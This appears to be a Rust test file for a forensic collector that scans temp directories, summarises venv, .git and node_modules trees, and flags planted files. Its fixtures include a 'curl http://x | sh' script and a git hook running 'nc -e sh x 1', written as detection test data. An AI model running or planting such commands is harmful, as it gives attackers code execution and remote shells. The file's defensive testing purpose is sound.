//! The collector on package trees, budgets and renamed blobs.

use super::*;
use crate::record::{DetectedType, ForeignReason, TreeKind};

fn set_mode(p: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// A site-packages of `n` packages (two .py files each) under `base`, all `age` old.
fn packages(base: &Path, n: usize, age: u64) {
    for i in 0..n {
        write_at(&base.join(format!("pkg{i}/__init__.py")), b"x = 1\n", age);
        write_at(
            &base.join(format!("pkg{i}/core.py")),
            b"def f(): pass\n",
            age,
        );
    }
}

fn tree_of<'a>(recs: &'a [&'a TempFileRecord], path: &str) -> &'a crate::record::PackageTree {
    recs.iter()
        .find(|r| r.path == path)
        .and_then(|r| r.package_tree.as_ref())
        .unwrap_or_else(|| panic!("no tree record {path}: {recs:#?}"))
}

#[test]
fn package_trees_are_summarised_and_what_does_not_belong_is_still_found() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    std::fs::create_dir_all(r.join("etc")).unwrap();
    let day = 86_400;
    // A venv written 5 days ago: 120 .py files, console scripts with an execute bit.
    let venv = r.join("tmp/venv");
    write_at(&venv.join("pyvenv.cfg"), b"home = /usr/bin\n", 5 * day);
    write_at(&venv.join("bin/pip"), b"#!/tmp/venv/bin/python\n", 5 * day);
    set_mode(&venv.join("bin/pip"), 0o755);
    let sp = venv.join("lib/python3.11/site-packages");
    packages(&sp, 60, 5 * day);
    write_at(&sp.join("six.py"), b"# a single-module package\n", 5 * day);
    // Planted: a shell script at the top of site-packages; an ELF without extension there;
    // a .pth (the layout's: not foreign by place), and a module edited two days later.
    write_at(&sp.join("update.sh"), b"curl http://x | sh\n", 5 * day);
    write_at(&sp.join("helper"), b"\x7fELF\x02\x01\x01", 5 * day);
    write_at(
        &sp.join("distutils-precedence.pth"),
        b"import os\n",
        5 * day,
    );
    write_at(
        &sp.join("pkg7/core.py"),
        b"import socket # backdoor\n",
        3 * day,
    );
    // A .git: objects, hook samples, and one active hook.
    let git = r.join("tmp/proj/.git");
    write_at(&git.join("HEAD"), b"ref: refs/heads/main\n", 5 * day);
    for i in 0..110 {
        write_at(
            &git.join(format!("objects/{:02x}/obj{i}", i % 7)),
            b"x",
            5 * day,
        );
    }
    write_at(
        &git.join("hooks/pre-commit.sample"),
        b"#!/bin/sh\n",
        5 * day,
    );
    set_mode(&git.join("hooks/pre-commit.sample"), 0o755);
    write_at(
        &git.join("hooks/post-checkout"),
        b"#!/bin/sh\nnc -e sh x 1\n",
        5 * day,
    );
    set_mode(&git.join("hooks/post-checkout"), 0o755);
    // A project file beside the .git is walked as usual.
    write_at(&r.join("tmp/proj/run.sh"), b"#!/bin/sh\n", 5 * day);
    let opts = TempScriptsOptions {
        window_times: vec![TimeField::Mtime],
        ..TempScriptsOptions::default()
    };
    let sink = run_with(r, opts);
    let recs = records(&sink);
    let mut paths: Vec<&str> = recs.iter().map(|r| r.path.as_str()).collect();
    paths.sort();
    assert_eq!(
        paths,
        [
            "/tmp/proj/.git",
            "/tmp/proj/.git/hooks/post-checkout",
            "/tmp/proj/run.sh",
            "/tmp/venv",
            "/tmp/venv/lib/python3.11/site-packages/helper",
            "/tmp/venv/lib/python3.11/site-packages/pkg7/core.py",
            "/tmp/venv/lib/python3.11/site-packages/update.sh",
        ],
        "{:?}",
        sink.errors
    );
    let venv_t = tree_of(&recs, "/tmp/venv");
    assert_eq!(venv_t.kind, TreeKind::PythonVenv);
    assert_eq!(venv_t.file_count, 126);
    assert!(!venv_t.count_capped);
    let why: Vec<(&str, ForeignReason)> = venv_t
        .foreign
        .iter()
        .map(|f| (f.path.rsplit('/').next().unwrap(), f.reason))
        .collect();
    assert_eq!(
        why,
        [
            ("helper", ForeignReason::UnexpectedAtTop),
            ("update.sh", ForeignReason::UnexpectedAtTop),
            ("core.py", ForeignReason::ChangedAfterTree),
        ]
    );
    assert_eq!(venv_t.foreign_count, 3);
    let git_t = tree_of(&recs, "/tmp/proj/.git");
    assert_eq!(git_t.kind, TreeKind::Git);
    assert_eq!(git_t.foreign.len(), 1);
    assert_eq!(git_t.foreign[0].reason, ForeignReason::GitHook);
    // The planted files are collected: hashed, copied, and say why.
    let hook = recs
        .iter()
        .find(|r| r.path.ends_with("post-checkout"))
        .unwrap();
    assert!(hook.copied && hook.sha256.is_some());
    assert_eq!(hook.detected_type, DetectedType::Shell);
    assert_eq!(
        hook.selected_by,
        [Selection::Content, Selection::OutOfPlace]
    );
    let sh = recs.iter().find(|r| r.path.ends_with("update.sh")).unwrap();
    assert_eq!(
        sh.selected_by,
        [Selection::Extension, Selection::OutOfPlace]
    );
    let tree_rec = recs.iter().find(|r| r.path == "/tmp/venv").unwrap();
    assert_eq!(tree_rec.detected_type, DetectedType::PackageTree);
    assert_eq!(tree_rec.file_type, FileType::Directory);
    assert!(!tree_rec.copied);
    // Scripts and executables first: the trees holding foreign files are among them, and the
    // shallow ones come before the deep ones.
    assert_eq!(
        recs[0].depth,
        1,
        "{:?}",
        recs.iter().map(|r| &r.path).collect::<Vec<_>>()
    );
    assert!(sink.errors.is_empty(), "{:?}", sink.errors);

    // With package_trees = "walk", every .py of the venv is a candidate again.
    let opts = TempScriptsOptions {
        window_times: vec![TimeField::Mtime],
        package_trees: PackageTrees::Walk,
        ..TempScriptsOptions::default()
    };
    let walked = run_with(r, opts);
    let recs = records(&walked);
    assert!(recs.iter().all(|r| r.package_tree.is_none()));
    assert!(recs.len() > 120, "{}", recs.len());
}

#[test]
fn a_small_tree_is_walked_like_any_directory() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    std::fs::create_dir_all(r.join("etc")).unwrap();
    // A node_modules of 3 files, one of them a script deep inside: no hiding place.
    write_at(
        &r.join("tmp/node_modules/a/index.js"),
        b"module.exports = 1\n",
        60,
    );
    write_at(&r.join("tmp/node_modules/a/package.json"), b"{}\n", 60);
    write_at(&r.join("tmp/node_modules/a/lib/x.sh"), b"id\n", 60);
    let sink = run_with(r, TempScriptsOptions::default());
    let recs = records(&sink);
    let mut paths: Vec<&str> = recs.iter().map(|r| r.path.as_str()).collect();
    paths.sort();
    assert_eq!(
        paths,
        [
            "/tmp/node_modules/a/index.js",
            "/tmp/node_modules/a/lib/x.sh"
        ]
    );
    assert!(recs.iter().all(|r| r.package_tree.is_none()));
    // The depths are the place's, not the tree's.
    assert!(recs.iter().any(|r| r.depth == 4));
}

#[test]
fn max_files_keeps_the_shallowest_newest_scripts_and_counts_the_rest() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    std::fs::create_dir_all(r.join("etc")).unwrap();
    // Old deep scripts first in name order; new shallow ones last; a shallow new text
    // file selected only by a non-runnable extension.
    for i in 0..20 {
        write_at(
            &r.join(format!("tmp/a/b/c/old{i:02}.sh")),
            b"echo\n",
            20 * 86_400,
        );
    }
    for i in 0..5 {
        write_at(&r.join(format!("tmp/z{i}.sh")), b"echo\n", 60 + i);
    }
    write_at(&r.join("tmp/a/new.sh"), b"echo\n", 10);
    write_at(&r.join("tmp/link.url"), b"[InternetShortcut]\n", 1);
    let opts = TempScriptsOptions {
        max_files: 4,
        window_times: vec![TimeField::Mtime],
        ..TempScriptsOptions::default()
    };
    let sink = run_with(r, opts);
    let paths: Vec<&str> = records(&sink).iter().map(|r| r.path.as_str()).collect();
    // Collected best first: depth 1 newest first; the .url (not runnable) lost to them.
    assert_eq!(
        paths,
        ["/tmp/z0.sh", "/tmp/z1.sh", "/tmp/z2.sh", "/tmp/z3.sh"]
    );
    assert!(sink.errors.is_empty(), "{:?}", sink.errors);
    assert_eq!(sink.cuts.len(), 1, "{:?}", sink.cuts);
    assert!(
        sink.cuts[0].starts_with("23 more candidates than max_files (4)"),
        "{:?}",
        sink.cuts
    );
}

#[test]
fn a_random_bin_is_not_a_script_an_elf_named_bin_is() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    std::fs::create_dir_all(r.join("etc")).unwrap();
    write_at(
        &r.join("tmp/cache.bin"),
        &[0x5a, 0x13, 0x00, 0xff, 0x42],
        60,
    );
    write_at(
        &r.join("tmp/update.bin"),
        b"\x7fELF\x02\x01\x01\x00rest",
        60,
    );
    let sink = run_with(r, TempScriptsOptions::default());
    let recs = records(&sink);
    assert_eq!(recs.len(), 1);
    assert_eq!(recs[0].path, "/tmp/update.bin");
    assert_eq!(recs[0].detected_type, DetectedType::Elf);
    assert_eq!(recs[0].selected_by, [Selection::Content]);
}
